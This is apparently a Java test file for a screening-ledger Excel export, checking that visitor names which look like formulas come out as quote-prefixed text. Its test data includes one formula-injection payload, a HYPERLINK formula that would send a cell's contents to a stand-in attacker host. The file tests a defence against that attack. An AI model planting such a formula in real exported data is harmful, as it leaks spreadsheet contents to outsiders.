package org.hallsafe.screening;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.hallsafe.HallSafeTest;
import org.hallsafe.MutableClock;
import org.hallsafe.TestHall;
import org.hallsafe.screening.Gate.Mask;
import org.hallsafe.screening.Gate.PersonType;
import org.hallsafe.shared.DocumentType;
import org.hallsafe.shared.IdNumber;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.security.core.userdetails.UserDetails;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** Issue #12, item 14: a ledger cell that begins like a formula is written so no spreadsheet evaluates it. */
@HallSafeTest
class Issue12ExportCellsTest {

    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1)",
            "+86-1", "-2+3", "=1+1");

    @Autowired GateDesk desk;
    @Autowired TestHall halls;
    @Autowired MutableClock clock;
    @Autowired MockMvc mvc;

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void r12_14_ledgerExportWritesFormulaLikeNamesAsQuotePrefixedText() throws Exception {
        TestHall.Hall hall = halls.create();
        halls.signIn(hall.admin());
        LocalDateTime at = LocalDateTime.now(clock).minusHours(2);
        List<String> names = new java.util.ArrayList<>(FORMULAS);
        names.add("张三");
        for (int i = 0; i < names.size(); i++) {
            String first17 = "43090219800101" + String.format("%03d", 100 + i);
            desk.record(hall.siteId(), new GateForm(UUID.randomUUID(), PersonType.CITIZEN, null, names.get(i),
                    DocumentType.ID_CARD, first17 + IdNumber.checkCharacter(first17), "1371234" + String.format("%04d", i),
                    Mask.DISPOSABLE_MEDICAL, new BigDecimal("36.5"), List.of(), true, "", null, at.plusMinutes(i),
                    "纸质台账补录", null));
        }
        UserDetails admin = halls.signIn(hall.admin());
        byte[] xlsx = mvc.perform(get("/screening/ledger/export.xlsx").with(user(admin))
                        .param("from", LocalDate.now(clock).minusDays(1).toString()).param("to", LocalDate.now(clock).toString()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();

        Map<String, Cell> byName = new HashMap<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : workbook.getSheetAt(0)) {
                Cell name = row.getCell(2);
                if (row.getRowNum() > 3 && name != null) { // below the headings
                    byName.put(name.getStringCellValue(), name);
                }
            }
            for (String formula : FORMULAS) {
                Cell cell = byName.get(formula);
                assertThat(cell).as(formula).isNotNull();
                assertThat(cell.getCellType()).as(formula).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).as(formula).isTrue();
            }
            assertThat(byName.get("张三").getCellStyle().getQuotePrefixed()).isFalse();
        }
    }
}
